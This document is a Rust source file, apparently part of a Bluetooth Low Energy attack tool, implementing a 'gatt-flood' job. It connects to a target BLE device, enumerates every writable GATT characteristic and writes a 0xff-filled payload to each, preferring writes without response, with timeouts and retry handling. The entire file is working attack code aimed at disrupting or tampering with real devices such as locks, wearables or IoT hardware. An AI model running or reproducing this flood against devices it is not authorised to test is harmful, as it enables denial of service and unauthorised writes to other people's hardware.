//! GATT characteristic write flood against a BLE device

use super::classify;
use crate::bluetooth::{parse_address, wait_for_services};
use anyhow::Result;
use async_trait::async_trait;
use bleeding_core::{AttemptContext, AttemptReport, Job, JobError, Target};
use bluer::gatt::remote::{Characteristic, CharacteristicWriteRequest};
use bluer::gatt::{CharacteristicFlags, WriteOp};
use bluer::{Adapter, Address, Device, Uuid};
use bytes::Bytes;
use std::future::Future;
use std::time::Duration;
use tokio::runtime::Handle;
use tokio::time::timeout;
use tracing::debug;

const FILL: u8 = 0xff;

/// Connection budget of one attempt
pub const CONNECT_TIMEOUT: Duration = Duration::from_secs(4);

/// GATT resolution budget of one attempt; together with the connection
/// budget it stays inside the worker's per-attempt timeout
pub const RESOLVE_TIMEOUT: Duration = Duration::from_secs(4);

/// Connects and writes one filler payload to every writable characteristic
pub struct GattFlood {
    adapter: Adapter,
    address: Address,
    payload: Bytes,
}

impl GattFlood {
    pub fn new(adapter: Adapter, target: &Target) -> Result<Self> {
        Ok(Self {
            adapter,
            address: parse_address(target.address())?,
            payload: Bytes::from(target.payload(FILL)),
        })
    }

    async fn flood(&self, device: &Device, ctx: &AttemptContext<'_>) -> Result<usize, JobError> {
        wait_for_services(device, RESOLVE_TIMEOUT)
            .await
            .map_err(|e| JobError::transient(format!("{e:#}")))?;

        let targets = writable_characteristics(device).await.map_err(classify)?;
        if targets.is_empty() {
            ctx.warn("No writable characteristics found!");
            return Err(JobError::fatal(format!(
                "{} exposes no writable GATT characteristic",
                self.address
            )));
        }

        let logger = ctx.logger();
        ctx.info(format!(
            "Connected! Flooding with {} byte packets...",
            logger.value(self.payload.len())
        ));

        let attempted = targets.len();
        let mut delivered = 0;
        for (uuid, ch, op) in targets {
            let mut req = CharacteristicWriteRequest::default();
            req.op_type = op;
            match ch.write_ext(&self.payload, &req).await {
                Ok(()) => {
                    delivered += 1;
                    ctx.info(format!("Sent packet to characteristic {}", logger.dim(uuid)));
                }
                Err(e) => ctx.err(format!("Failed to write to {uuid}: {e}")),
            }
        }
        write_outcome(delivered, attempted, self.payload.len())
    }
}

#[async_trait]
impl Job for GattFlood {
    fn name(&self) -> &'static str {
        "gatt-flood"
    }

    async fn attempt(
        &self,
        _target: &Target,
        ctx: &AttemptContext<'_>,
    ) -> Result<AttemptReport, JobError> {
        ctx.info(format!(
            "Connecting to BLE device {}...",
            ctx.logger().good(self.address)
        ));

        let device = self.adapter.device(self.address).map_err(classify)?;
        let link = DisconnectGuard::new(device.clone());
        if !device.is_connected().await.map_err(classify)? {
            timeout(CONNECT_TIMEOUT, device.connect())
                .await
                .map_err(|_| {
                    JobError::transient(format!(
                        "connection timed out after {}s",
                        CONNECT_TIMEOUT.as_secs()
                    ))
                })?
                .map_err(classify)?;
        }

        let result = self.flood(&device, ctx).await;
        link.disconnect().await;
        result.map(AttemptReport::sent)
    }
}

/// Disconnects a device when the attempt ends
///
/// The normal path awaits [`DisconnectGuard::disconnect`]. If the attempt is
/// dropped first (per-attempt timeout, pool teardown) the disconnect is
/// spawned onto the runtime instead.
struct DisconnectGuard {
    device: Option<Device>,
}

impl DisconnectGuard {
    fn new(device: Device) -> Self {
        Self {
            device: Some(device),
        }
    }

    async fn disconnect(mut self) {
        if let Some(device) = self.device.take() {
            release(device).await;
        }
    }
}

impl Drop for DisconnectGuard {
    fn drop(&mut self) {
        if let Some(device) = self.device.take() {
            spawn_cleanup(release(device));
        }
    }
}

async fn release(device: Device) {
    if let Err(e) = device.disconnect().await {
        debug!(address = %device.address(), error = %e, "disconnect failed");
    }
}

/// Run `cleanup` in the background if a runtime is still alive
fn spawn_cleanup<F>(cleanup: F)
where
    F: Future<Output = ()> + Send + 'static,
{
    match Handle::try_current() {
        Ok(handle) => {
            handle.spawn(cleanup);
        }
        Err(_) => debug!("no runtime left to run cleanup"),
    }
}

/// Bytes delivered by one flood pass; an attempt where every write failed
/// is a failed attempt, not an empty success
fn write_outcome(delivered: usize, attempted: usize, payload_len: usize) -> Result<usize, JobError> {
    if delivered == 0 {
        return Err(JobError::transient(format!(
            "all {attempted} characteristic writes failed"
        )));
    }
    Ok(delivered * payload_len)
}

/// Write mode for a characteristic, preferring writes without response
pub fn write_op(flags: &CharacteristicFlags) -> Option<WriteOp> {
    if flags.write_without_response {
        Some(WriteOp::Command)
    } else if flags.write {
        Some(WriteOp::Request)
    } else {
        None
    }
}

async fn writable_characteristics(
    device: &Device,
) -> bluer::Result<Vec<(Uuid, Characteristic, WriteOp)>> {
    let mut out = Vec::new();
    for service in device.services().await? {
        for ch in service.characteristics().await? {
            if let Some(op) = write_op(&ch.flags().await?) {
                out.push((ch.uuid().await?, ch, op));
            }
        }
    }
    Ok(out)
}
